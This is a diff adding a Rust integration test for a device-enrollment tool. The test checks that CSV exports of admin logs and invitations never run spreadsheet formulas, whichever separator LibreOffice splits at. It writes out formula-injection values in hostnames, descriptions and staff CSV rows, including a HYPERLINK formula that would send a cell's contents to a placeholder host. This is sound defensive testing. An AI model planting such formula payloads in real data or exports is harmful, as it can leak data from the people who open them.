@@ -5,6 +5,7 @@
 //! command line's specification, read in the order of the manual.
 
 use porta_proto::Invitation;
+use porta_proto::pb;
 use porta_tests::portactl::Portactl;
 use porta_tests::*;
 use serde_json::Value;
@@ -1258,4 +1259,183 @@ fn read_out_if_any(path: &Path) -> Vec<Vec<String>> {
     } else {
         Vec::new()
     }
+}
+
+/// Opens each of `files` in headless LibreOffice as a CSV split at
+/// `separator`, with formulas evaluated (what a Catalan, Spanish or Italian
+/// locale offers for `;`), and saves the values it shows as CSV into
+/// `out_dir`; returns the saved texts.
+fn libreoffice_values(files: &[&Path], separator: u8, out_dir: &Path) -> Vec<String> {
+    std::fs::create_dir_all(out_dir).unwrap();
+    let output = std::process::Command::new("soffice")
+        .arg(format!(
+            "-env:UserInstallation=file://{}",
+            out_dir.join("lo-profile").display()
+        ))
+        .arg("--headless")
+        // Separator, text delimiter ", UTF-8, from line 1, …, evaluate formulas.
+        .arg(format!(
+            "--infilter=CSV:{separator},34,76,1,,0,false,false,false,false,false,true"
+        ))
+        // The values as shown, written back with commas.
+        .args([
+            "--convert-to",
+            "csv:Text - txt - csv (StarCalc):44,34,76,1",
+            "--outdir",
+        ])
+        .arg(out_dir)
+        .args(files)
+        .output()
+        .expect("soffice (Debian's libreoffice-calc-nogui; .ci/run installs it)");
+    assert!(output.status.success(), "{output:?}");
+    files
+        .iter()
+        .map(|file| {
+            let saved = out_dir.join(file.file_name().unwrap());
+            std::fs::read_to_string(&saved).unwrap_or_else(|e| {
+                panic!("LibreOffice wrote no {}: {e}; {output:?}", saved.display())
+            })
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn no_formula_runs_whatever_separator_a_spreadsheet_splits_a_csv_at() {
+    let (ctl, dir, cli) = logged_in().await;
+    // A laptop names itself and its system: what could split a cell and
+    // start a formula is refused at the controller, at enrollment and in
+    // status reports.
+    let invitation = cli
+        .json(&["enroll", "--user", "anna", "--device", "anna-pc"])
+        .await["invitation"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let token = porta_proto::invitation::Invitation::decode(&invitation)
+        .unwrap()
+        .token;
+    let key = porta_tunnel::keys::PrivateKey::generate()
+        .public_key()
+        .to_base64();
+    let mut enrollment = ctl.enrollment().await;
+    for (hostname, os) in [("pc;=1+1;", "Debian"), ("pc", "Windows 11;=2*21;")] {
+        let refused = enrollment
+            .enroll(pb::EnrollRequest {
+                token: token.clone(),
+                public_key: key.clone(),
+                hostname: hostname.into(),
+                os: os.into(),
+            })
+            .await
+            .expect_err("a hostname or OS that splits a cell is refused");
+        assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{refused:?}");
+    }
+    let anna = enroll(&mut enrollment, &invitation).await.unwrap();
+    let refused = ctl
+        .device_with(&anna.credential)
+        .await
+        .report_status(pb::DeviceStatusReport {
+            hostname: "pc\t=3+3".into(),
+            os: "Windows 11,=2*21".into(),
+            ..Default::default()
+        })
+        .await
+        .expect_err("a status report that splits a cell is refused");
+    assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{refused:?}");
+
+    // What admins type (kept as typed) and what a CSV of staff carries.
+    cli.json(&[
+        "groups",
+        "add",
+        "serveis",
+        "--description",
+        "Serveis;=1234*1000;",
+    ])
+    .await;
+    cli.json(&[
+        "users",
+        "add",
+        "bernat",
+        "--display-name",
+        "Bernat,=1111*1000",
+    ])
+    .await;
+    let staff = dir.path().join("staff.csv");
+    std::fs::write(
+        &staff,
+        "user,device,display_name\n\
+         carla,carla-pc,=3333*1000\n\
+         dani,dani-pc,\"Dani;=4444*1000;\"\n\
+         enric,enric-pc,\"=HYPERLINK(\"\"http://x?\"\"&C2)\"\n",
+    )
+    .unwrap();
+    let invitations = dir.path().join("invitations.csv");
+    let summary = cli
+        .json(&[
+            "enroll",
+            "--csv",
+            staff.to_str().unwrap(),
+            "--out",
+            invitations.to_str().unwrap(),
+        ])
+        .await;
+    assert_eq!(summary["enrolled"], 3, "{summary}");
+    let admin_log = dir.path().join("admin.csv");
+    cli.json(&[
+        "logs",
+        "export",
+        "--kind",
+        "admin",
+        "--out",
+        admin_log.to_str().unwrap(),
+    ])
+    .await;
+    let raw = std::fs::read_to_string(&admin_log).unwrap();
+    assert!(
+        raw.contains("1234*1000") && raw.contains("1111*1000"),
+        "{raw}"
+    );
+
+    for (name, separator) in [("comma", b','), ("semicolon", b';'), ("tab", b'\t')] {
+        let shown = libreoffice_values(
+            &[&admin_log, &invitations],
+            separator,
+            &dir.path().join(name),
+        );
+        for (file, text) in ["admin.csv", "invitations.csv"].iter().zip(&shown) {
+            for computed in ["1234000", "1111000", "3333000", "4444000"] {
+                assert!(
+                    !text.contains(computed),
+                    "{file} split at {name} ran a formula ({computed}):\n{text}"
+                );
+            }
+            assert!(!text.contains("Err:"), "{file} split at {name}:\n{text}");
+            if *file == "invitations.csv" {
+                assert!(
+                    text.contains("HYPERLINK"),
+                    "shown as typed, not run:\n{text}"
+                );
+            }
+        }
+    }
+    // Still what was typed, once the marks are taken away: the export
+    // verifies, and a re-run of the CSV finds every row done.
+    let verified = cli
+        .json(&["logs", "verify", "--file", admin_log.to_str().unwrap()])
+        .await;
+    assert_eq!(verified["ok"], true, "{verified}");
+    let again = cli
+        .json(&[
+            "enroll",
+            "--csv",
+            staff.to_str().unwrap(),
+            "--out",
+            invitations.to_str().unwrap(),
+        ])
+        .await;
+    assert_eq!(
+        (again["enrolled"].as_u64(), again["skipped"].as_u64()),
+        (Some(0), Some(3)),
+        "{again}"
+    );
 }
